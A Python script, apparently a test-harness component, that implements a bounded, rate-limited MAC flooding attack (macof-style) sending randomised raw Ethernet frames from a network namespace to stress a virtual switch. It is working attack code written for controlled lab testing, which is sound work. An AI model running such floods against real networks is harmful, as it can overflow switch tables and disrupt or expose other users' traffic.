"""The attacker's tool (macof's idea, as shown at DEF CON 23 against Open vSwitch): frames with
random source and destination MACs, sent from inside a VM's namespace through a raw socket at
a set rate, for a bounded count. Standard library only, so it runs as a script under
`ip netns exec` and imports nothing of tunnelnet:

    python mac_flood.py IFACE COUNT RATE SEED

Every frame carries EtherType 0x88B5 (IEEE 802 local experimental) and the marker below, so a
capture anywhere tells flood frames from everything else. Prints one JSON line: frames sent,
seconds taken, and sends the kernel refused (ENOBUFS) that were given up on.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from typing import Final

ETHERTYPE: Final = 0x88B5
MARKER: Final = b"TNMACFLOOD"
_CHUNK: Final = 256  # frames between two looks at the clock


def random_unicast(rng: random.Random) -> bytes:
    """A locally administered unicast MAC (bit 1 of the first octet set, bit 0 clear)."""
    first = (rng.getrandbits(8) & 0xFC) | 0x02
    return bytes([first]) + rng.getrandbits(40).to_bytes(5, "big")


def frame(rng: random.Random, index: int) -> bytes:
    head = random_unicast(rng) + random_unicast(rng) + struct.pack("!H", ETHERTYPE)
    return (head + MARKER + struct.pack("!Q", index)).ljust(60, b"\0")


def flood(iface: str, count: int, rate: float, seed: int) -> dict[str, float]:
    rng = random.Random(seed)
    frames = [frame(rng, i) for i in range(count)]  # built first: the send loop only sends
    refused = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        start = time.monotonic()
        for at in range(0, count, _CHUNK):
            for data in frames[at:at + _CHUNK]:
                try:
                    sock.send(data)
                except BlockingIOError:
                    refused += 1
                except OSError:  # ENOBUFS: the device queue is full; the flood goes on
                    refused += 1
            ahead = (at + _CHUNK) / rate - (time.monotonic() - start)
            if ahead > 0:
                time.sleep(ahead)
        took = time.monotonic() - start
    return {"sent": count - refused, "refused": refused, "seconds": took}


def main(argv: list[str]) -> int:
    if len(argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    iface, count, rate, seed = argv[0], int(argv[1]), float(argv[2]), int(argv[3])
    print(json.dumps(flood(iface, count, rate, seed)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
